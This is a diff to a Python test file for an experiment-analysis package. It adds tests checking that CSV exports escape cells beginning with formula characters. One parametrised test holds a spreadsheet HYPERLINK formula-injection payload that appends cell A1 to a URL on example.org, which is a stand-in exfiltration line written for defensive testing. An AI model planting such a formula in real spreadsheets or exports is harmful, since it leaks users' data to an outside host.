@@ -1,6 +1,8 @@
 from __future__ import annotations
 
+import csv
 import json
+import math
 import shutil
 import statistics
 import time
@@ -9,7 +11,7 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from smallbatch.analysis.evaluation import evaluate, read_evaluation
+from smallbatch.analysis.evaluation import evaluate, read_evaluation, write_table
 from smallbatch.analysis.frames import load_results
 from smallbatch.analysis.generalisation import best_by_study, best_cells
 from smallbatch.analysis.stability import fit_upper_limit, stable_ranges
@@ -88,8 +90,30 @@ def test_columns_of_different_settings_are_pointed_out(models: Path, tmp_path: P
     content["settings"]["weight_decay"] = 0.5
     path.write_text(json.dumps(content))
     (warning,) = evaluate(models, tmp_path / "out").warnings
-    assert "synthetic/tiny" in warning
-    assert "weight_decay" in warning
+    assert warning == (
+        "synthetic/tiny: its columns were trained with different weight_decay (m2 | m32); train "
+        "the older ones again, or delete those of them under models/synthetic/tiny/ that the grid "
+        "no longer has"
+    )
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_text_in_a_csv_is_no_formula(tmp_path: Path, sign: str) -> None:
+    text = sign + 'HYPERLINK("https://example.org?"&A1, "x")'
+    odd = synthetic.Study("odd", batch_sizes=(4,), base_lrs=(0.01,), settings={"figure": text})
+    evaluate(synthetic.write_models(tmp_path / "models", (odd,)), tmp_path / "out")
+    with (tmp_path / "out/runs.csv").open(newline="") as file:
+        rows = list(csv.reader(file))
+    assert rows[1][rows[0].index("figure")] == f"'{text}"
+    assert not [cell for row in rows for cell in row if cell.startswith(sign)]
+    runs = read_evaluation(tmp_path / "out")[0]
+    assert set(runs["figure"]) == {text}  # Parquet is for programs
+
+
+def test_numbers_and_names_in_a_csv(tmp_path: Path) -> None:
+    frame = pd.DataFrame({"=a": [-1.5, math.nan], "n": pd.array([-2, None], "Int64"), "t": "-x"})
+    write_table(frame, tmp_path / "t.csv")
+    assert (tmp_path / "t.csv").read_text() == "'=a,n,t\n-1.5,-2,'-x\n,,'-x\n"
 
 
 def _truncate(path: Path) -> None:
